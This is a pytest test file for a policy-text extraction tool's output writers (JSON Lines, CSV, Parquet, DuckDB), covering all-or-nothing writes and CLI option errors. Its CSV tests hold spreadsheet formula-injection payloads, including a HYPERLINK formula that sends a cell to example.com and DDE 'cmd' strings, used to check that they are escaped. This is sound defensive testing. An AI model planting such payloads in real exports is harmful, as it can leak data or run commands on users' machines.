"""Files of records as a user opens them: JSON Lines, CSV, Parquet and DuckDB, whole or not there at all."""

import csv
import gc
import io
import json
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import duckdb
import polars as pl
import pyarrow.parquet as pq
import pytest

import policyextract as pe
from policyextract.cli.main import main
from policyextract.core.failures import Failure
from policyextract.core.files import scratch
from policyextract.core.files.whole import whole_file, whole_path
from policyextract.core.records import Extraction, Figure
from policyextract.output import writers
from policyextract.output.cells import cell
from policyextract.output.formats import output
from policyextract.output.rows import records_in
from policyextract.output.schema import COLUMNS, RECORD_SCHEMA, columns_of

CORPUS = Path(__file__).parents[2] / "corpus"
INTERVIEW, OTHERS = CORPUS / "mayors-2021.txt", CORPUS / "mayors-2023.txt"
PAYLOAD = """=HYPERLINK("http://example.com/"&A1,"报告")地区生产总值增长6%。

@SUM(1+1)项目总投资20亿元，增长-1.5%。

+稀土产业加快发展。
"""


@pytest.fixture(scope="module")
def results():
    documents = [pe.read(path) for path in (INTERVIEW, OTHERS)]
    return [(d, pe.extract(d.text, published=d.published, region=d.region)) for d in documents]


@pytest.fixture(scope="module")
def records(results):
    return [record for _, extraction in results for record in extraction]


def written(path, results, format_=None, **options):
    """The path, with the results written to it."""
    with output(format_ or path.suffix[1:], path, **options) as writer:
        for document, extraction in results:
            writer.write(document, extraction)
    return path


def read_csv(path, encoding="utf-8-sig"):
    with path.open(encoding=encoding, newline="") as stream:
        return list(csv.DictReader(stream))


def is_number(said):
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?%?", said) is not None


def query(path, sql):
    with duckdb.connect(str(path), read_only=True) as base:
        return base.execute(sql).fetchall()


# ---- JSON Lines ------------------------------------------------------------------------------------------------------


def test_jsonl_gives_back_the_very_records(tmp_path, results, records):
    lines = written(tmp_path / "a.jsonl", results).read_text(encoding="utf-8").splitlines()
    parsed = [json.loads(line) for line in lines]
    assert [line.pop("source") for line in parsed] == [str(d.source) for d, extraction in results for _ in extraction]
    assert [type(record).model_validate(line) for record, line in zip(records, parsed, strict=True)] == records


# ---- CSV -------------------------------------------------------------------------------------------------------------


def test_csv_has_the_exact_values_in_columns_that_never_change(tmp_path, results, records):
    rows = read_csv(written(tmp_path / "a.csv", results))
    assert list(rows[0]) == writers.csv_columns()
    for row, record in zip(rows, records, strict=True):
        assert (row["type"], int(row["start"]), row["text"]) == (record.type, record.start, record.text)
        if record.type == "figure":
            assert Decimal(row["value"]) == record.value
            assert row["value_high"] == "" if record.value_high is None else Decimal(row["value_high"]) == record.value_high
        if record.type == "industry":
            assert tuple(row["gbt4754"].split(";")) == record.gbt4754
    assert {row["name"] for row in rows if row["type"] == "figure"} == {""}


def test_csv_loses_no_column_of_the_schema(tmp_path, results, records):
    rows = read_csv(written(tmp_path / "a.csv", results))
    assert tuple(rows[0]) == tuple(column.name for column in COLUMNS)
    spans = [dict(part.split(":") for part in row["spans"].split(";") if part) for row in rows]
    assert spans == [{slot: f"{a}-{b}" for slot, (a, b) in record.spans.items()} for record in records]


def test_csv_has_the_documents_that_failed(tmp_path):
    with output("csv", tmp_path / "a.csv") as writer:
        writer.fail(Failure("b.docx", "read", "broken"))
    (row,) = read_csv(tmp_path / "a.csv")
    assert {name: said for name, said in row.items() if said} == {
        "source": "b.docx", "type": "error", "step": "read", "error": "broken"
    }  # fmt: skip


@pytest.mark.parametrize(("name", "says"), [
    ("a.txt", "a.txt: .txt is no format that is written; .jsonl, .csv, .parquet, .duckdb, .xlsx, .dta"),
    ("panel", "a name without ending is no format"),
    ("a.xls", ".xls is no format"),
])  # fmt: skip
def test_an_ending_that_no_format_has_is_refused(tmp_path, capsys, name, says):
    assert main(["extract", str(INTERVIEW), "--out", str(tmp_path / name)]) == 2
    assert says in capsys.readouterr().err
    assert main(["extract", str(INTERVIEW), "--format", "csv", "--out", str(tmp_path / name)]) == 2
    assert list(tmp_path.iterdir()) == []


def test_a_name_that_says_another_format_is_refused(tmp_path, capsys):
    assert main(["extract", str(INTERVIEW), "--format", "csv", "--out", str(tmp_path / "a.jsonl")]) == 2
    assert capsys.readouterr().err == "policyextract: --out a.jsonl says jsonl, but --format says csv\n"


def test_csv_has_the_mark_in_a_file_unless_it_is_not_wanted(tmp_path, capsys):
    assert main(["extract", str(INTERVIEW), "--out", str(tmp_path / "a.csv")]) == 0
    assert main(["extract", str(INTERVIEW), "--out", str(tmp_path / "b.csv"), "--no-bom"]) == 0
    assert (tmp_path / "a.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "b.csv").read_bytes()
    assert main(["extract", str(INTERVIEW), "--format", "csv"]) == 0
    assert capsys.readouterr().out.startswith("source,")


def test_csv_begins_with_a_mark_only_on_request(tmp_path, results):
    plain = written(tmp_path / "a.csv", results).read_bytes()
    assert written(tmp_path / "b.csv", results, bom=True).read_bytes() == b"\xef\xbb\xbf" + plain
    assert read_csv(tmp_path / "b.csv", "utf-8-sig") == read_csv(tmp_path / "a.csv")


def test_no_cell_of_a_hostile_document_is_a_formula(tmp_path):
    (tmp_path / "=1+1.txt").write_text(PAYLOAD, encoding="utf-8")
    out = tmp_path / "a.csv"
    assert main(["extract", str(tmp_path / "=1+1.txt"), "--out", str(out), "--region", "=A1", "--published", "2024"]) == 0
    rows = read_csv(out)
    sentences = {row["sentence"] for row in rows}
    assert {sentence[:2] for sentence in sentences} == {"'=", "'@", "'+"}
    assert "'=A1" in {row["region"] for row in rows}
    numbers = [name for name in rows[0] if name in ("start", "end", "value", "base_value", "number_start")]
    for row in rows:
        assert not [said for said in row.values() if said.startswith(tuple("=+-@\t\r")) and not is_number(said)]
        assert all(is_number(row[name]) for name in numbers if row[name])
    assert "-1.5" in {row["value"] for row in rows}


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-1.5", "-1.5"),
        ("-5%", "-5%"),
        ("+3", "+3"),
        (Decimal("-1.50"), "-1.5"),
        (Decimal("1E+13"), "10000000000000"),
        (Decimal("0.3333333333333333"), "0.3333333333333333"),
        (-7, "-7"),
        (("C26", "C38"), "C26;C38"),
        (("=1", "x"), "'=1;x"),
        (None, ""),
        ("增长6%", "增长6%"),
    ],
)
def test_a_cell_shows_what_it_holds(value, shown):
    assert cell(value) == shown


def test_a_text_over_two_lines_stays_one_row(tmp_path):
    figure = {"start": 0, "end": 4, "text": '6,\r\n"%', "sentence": "6%", "rule": "r", "number_start": 0, "kind": "target"}
    made = Figure(**figure, bound="exact", measure="level", value=Decimal("-6.5"), base_value=Decimal("-6.5"))
    (row,) = read_csv(written(tmp_path / "a.csv", [(pe.Document(text="", source="a"), Extraction(figures=[made]))]))
    assert (row["text"], row["value"]) == ('6,\r\n"%', "-6.5")


# ---- Parquet ---------------------------------------------------------------------------------------------------------


def test_parquet_gives_back_the_very_records(tmp_path, results, records):
    table = pq.read_table(written(tmp_path / "a.parquet", results))
    assert table.schema.equals(RECORD_SCHEMA)
    assert [record for _, record in records_in(table)] == records
    assert pl.read_parquet(tmp_path / "a.parquet")["value"].to_list() == table["value"].to_pylist()


def test_parquet_is_written_in_parts_as_the_documents_come(tmp_path, results, records, monkeypatch):
    monkeypatch.setattr(writers, "ROW_GROUP", 10)
    file = pq.ParquetFile(written(tmp_path / "a.parquet", results))
    assert (file.num_row_groups, file.metadata.num_rows) == (2, len(records))


def test_parquet_without_records_is_still_a_table(tmp_path, results):
    assert pq.read_table(written(tmp_path / "a.parquet", [(results[0][0], Extraction())])).schema.equals(RECORD_SCHEMA)


# ---- DuckDB ----------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base(tmp_path_factory, results):
    path = tmp_path_factory.mktemp("base") / "a.duckdb"
    with output("duckdb", path) as writer:
        for result in results:
            writer.write(*result)
        writer.fail(Failure("scan's.pdf", "read", "no text layer"))
    return path


def test_a_duckdb_file_can_be_queried_at_once(base, results):
    assert query(base, "from duckdb_tables() select table_name order by all") == [
        ("aims",),
        ("documents",),
        ("errors",),
        ("figures",),
        ("industries",),
        ("projects",),
        ("run",),
    ]
    sql = "select indicator, value from figures join documents using (source) where documents.region is null and value > 100"
    expected = [(f.indicator, f.value) for d, x in results if d.region is None for f in x.figures if f.value > 100]
    assert sorted(query(base, sql), key=str) == sorted(expected, key=str)


def test_the_tables_of_a_duckdb_file_hold_all_records(base, results):
    for table, type_, kept in (
        ("figures", "figure", [f for _, x in results for f in x.figures]),
        ("projects", "project", [p for _, x in results for p in x.projects]),
        ("industries", "industry", [t for _, x in results for t in x.industries]),
    ):
        of_document = ("source", "year_from", "region_from", "doubt", "corrected_by")
        names = [c.name for c in columns_of(type_) if c.name not in ("type", "spans", "beyond", *of_document)]
        selected = query(base, f"select {', '.join(map(chr(34).__add__, (n + chr(34) for n in names)))} from {table}")
        of_record = [tuple(list(v) if isinstance(v := getattr(r, name), tuple) else v for name in names) for r in kept]
        assert sorted(selected, key=str) == sorted(of_record, key=str), table


def test_a_record_can_be_found_in_the_text_of_its_document(base):
    found = query(base, 'select figures.text, documents.text[start + 1:"end"] from figures join documents using (source)')
    assert found
    assert all(one == other for one, other in found)


def test_what_failed_is_in_the_table_of_errors(base):
    assert query(base, "select source, step, error from errors") == [("scan's.pdf", "read", "no text layer")]


def test_every_column_of_a_duckdb_file_says_what_it_means(base):
    silent = "select table_name, column_name from duckdb_columns() where comment is null and not internal"
    assert query(base, silent) == []


# ---- files -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet", "duckdb"])
def test_a_file_is_whole_or_not_there(tmp_path, results, suffix):
    path = tmp_path / f"a.{suffix}"
    path.write_bytes(b"old")

    def failing():
        yield results[0]
        assert path.read_bytes() == b"old"
        raise RuntimeError("power cut")

    with pytest.raises(RuntimeError, match="power cut"):
        written(path, failing())
    assert {inside.name: inside.read_bytes() for inside in tmp_path.iterdir()} == {path.name: b"old"}
    written(path, results)
    assert path.read_bytes() != b"old"
    assert [inside.name for inside in tmp_path.iterdir()] == [path.name]


@pytest.mark.skipif(sys.platform != "linux", reason="bounds the size of files")
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning", "ignore::ResourceWarning")  # XlsxWriter's own files
@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet", "duckdb", "xlsx", "dta"])
def test_a_disk_that_is_full_is_told_with_the_name_of_the_output(tmp_path, results, suffix):
    import resource

    path = tmp_path / f"a.{suffix}"
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (4096, before[1]))
    try:
        with pytest.raises(OSError, match=re.escape(str(path))) as raised:
            written(path, results)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
    gc.collect()
    assert raised.value.filename == str(path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.skipif(sys.platform == "win32", reason="no locks of folders")
def test_half_a_file_of_a_process_that_was_killed_goes_with_the_next(tmp_path):
    half = (
        "import os, sys, pathlib; from policyextract.core.files.whole import whole_file\n"
        "with whole_file(pathlib.Path(sys.argv[1])) as stream:\n"
        "    stream.write('half'); stream.flush(); print('half', flush=True); sys.stdin.read()"
    )
    command = [sys.executable, "-c", half, tmp_path / "a.csv"]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout.readline() == b"half\n"
        with whole_file(tmp_path / "b.csv") as stream:
            stream.write("new")
        assert len(list(tmp_path.iterdir())) == 2  # that of a process that lives is let alone
        process.kill()
    scratch._not_before.clear()  # some time goes by
    with whole_file(tmp_path / "a.csv") as stream:
        stream.write("new")
    assert {inside.name: inside.read_bytes() for inside in tmp_path.iterdir()} == {"a.csv": b"new", "b.csv": b"new"}


def test_a_place_that_cannot_be_written_is_named(tmp_path):
    with pytest.raises(OSError, match="nowhere") as raised, whole_path(tmp_path / "nowhere" / "a.parquet"):
        pass
    assert raised.value.filename == str(tmp_path / "nowhere" / "a.parquet")


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet", "duckdb", "xlsx", "dta"])
def test_the_name_of_the_file_says_the_format(tmp_path, suffix):
    out = tmp_path / f"records.{suffix}"
    assert main(["extract", str(INTERVIEW), "--out", str(out)]) == 0
    begin = {"jsonl": b'{"source":"', "csv": b"\xef\xbb\xbfsource,", "parquet": b"PAR1", "duckdb": None}
    begin = (begin | {"xlsx": b"PK\x03\x04", "dta": b"<stata_dta>"})[suffix]
    assert begin is None or out.read_bytes().startswith(begin)
    assert suffix != "duckdb" or query(out, "select count(*) from documents") == [(1,)]


@pytest.mark.parametrize(
    ("options", "complaint"),
    [
        (["--format", "parquet"], "--format parquet needs --out FILE"),
        (["--format", "duckdb"], "--format duckdb needs --out FILE"),
        (["--resume"], "--resume needs --out FILE"),
        (["--bom"], "--bom is for CSV, not for table"),
        (["--workers", "-1"], "--workers: -1 is not 0 or more"),
    ],
)
def test_options_that_do_not_go_together_are_refused(options, complaint, capsys):
    assert main(["extract", str(INTERVIEW), *options]) == 2
    assert capsys.readouterr() == ("", f"policyextract: {complaint}\n")


@pytest.mark.parametrize(("suffix", "module", "extra"), [
    ("parquet", "pyarrow", "arrow"), ("duckdb", "duckdb", "duckdb"), ("xlsx", "xlsxwriter", "excel"), ("dta", "pandas", "stata"),
])  # fmt: skip
def test_a_missing_library_is_one_line(tmp_path, suffix, module, extra, monkeypatch, capsys):
    monkeypatch.setitem(__import__("sys").modules, module, None)
    assert main(["extract", str(INTERVIEW), "--out", str(tmp_path / f"a.{suffix}")]) == 4
    assert re.search(rf'pip install ".+\[{extra}\]"', capsys.readouterr().err)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", ["jsonl", "csv", "parquet", "duckdb"])
def test_only_the_type_asked_for_is_written(tmp_path, suffix):
    out = tmp_path / f"a.{suffix}"
    assert main(["extract", str(INTERVIEW), "--out", str(out), "--type", "project"]) == 0
    if suffix == "duckdb":
        types = {name for name in ("figures", "projects", "industries") if query(out, f"from {name} limit 1")}
        assert types == {"projects"}
    else:
        read = {"jsonl": lambda: [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]}
        read |= {"csv": lambda: read_csv(out), "parquet": lambda: pq.read_table(out).to_pylist()}
        assert {row["type"] for row in read[suffix]()} == {"project"}


def test_csv_on_the_screen_is_the_csv_of_the_file(tmp_path, capsys):
    assert main(["extract", str(INTERVIEW), "--format", "csv"]) == 0
    printed = capsys.readouterr().out
    assert main(["extract", str(INTERVIEW), "--out", str(tmp_path / "a.csv")]) == 0
    assert list(csv.DictReader(io.StringIO(printed, newline=""))) == read_csv(tmp_path / "a.csv")
